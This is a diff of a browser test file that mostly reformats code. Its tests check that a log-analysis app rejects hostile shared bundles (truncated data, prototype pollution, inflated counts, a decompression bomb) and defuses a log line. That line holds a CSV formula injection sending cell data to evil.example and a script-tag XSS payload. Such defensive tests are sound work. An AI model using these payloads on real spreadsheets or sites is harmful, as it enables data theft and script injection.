@@ -111,9 +111,27 @@ test('a bundle dropped in another browser reopens the same analysis with the lab
   };
   const hostile: Array<[string, Buffer, RegExp]> = [
     ['truncated', bundle.subarray(0, bundle.length >> 1), /truncated or damaged/],
-    ['newer', rebuilt((h) => { h.version = 9; }), /newer Loupe/],
-    ['prototype', rebuilt((h) => { Object.defineProperty(h, '__proto__', { value: { admin: true }, enumerable: true }); }), /damaged/],
-    ['huge claim', rebuilt((h) => { (h.snapshot as { counts: { records: number } }).counts.records = 4e9; }), /damaged/],
+    [
+      'newer',
+      rebuilt((h) => {
+        h.version = 9;
+      }),
+      /newer Loupe/,
+    ],
+    [
+      'prototype',
+      rebuilt((h) => {
+        Object.defineProperty(h, '__proto__', { value: { admin: true }, enumerable: true });
+      }),
+      /damaged/,
+    ],
+    [
+      'huge claim',
+      rebuilt((h) => {
+        (h.snapshot as { counts: { records: number } }).counts.records = 4e9;
+      }),
+      /damaged/,
+    ],
     ['bomb', gzipSync(Buffer.concat([Buffer.from('LOUPE-BUNDLE\n'), Buffer.from([255, 255, 255, 15])])), /truncated/],
   ];
   for (const [name, bytes, message] of hostile) {
@@ -122,13 +140,14 @@ test('a bundle dropped in another browser reopens the same analysis with the lab
     await page.getByTestId('sharing-error').getByRole('button', { name: 'Dismiss' }).click();
     expect(await facts(page), name).toEqual(expected);
   }
-  expect(await page.evaluate(() => ({} as Record<string, unknown>).admin)).toBeUndefined();
+  expect(await page.evaluate(() => (({}) as Record<string, unknown>).admin)).toBeUndefined();
   await context.close();
 });
 
 test('CSV exports defuse formulas; the HTML report is self-contained, escaped and opens offline', async ({ page, browser }) => {
   const lines: string[] = [];
-  for (let i = 0; i < 400; i++) lines.push(`2024-03-0${1 + (i % 9)}T10:00:${String(i % 60).padStart(2, '0')}Z INFO worker ${i % 7} finished job ${i}`);
+  for (let i = 0; i < 400; i++)
+    lines.push(`2024-03-0${1 + (i % 9)}T10:00:${String(i % 60).padStart(2, '0')}Z INFO worker ${i % 7} finished job ${i}`);
   lines.push('2024-03-09T10:00:00Z ERROR =HYPERLINK("http://evil.example/"&A1,"x") <script>alert(1)</script>');
   await page.goto('/');
   await dropFiles(page, [{ name: 'evil.log', bytes: Buffer.from(lines.join('\n') + '\n') }]);
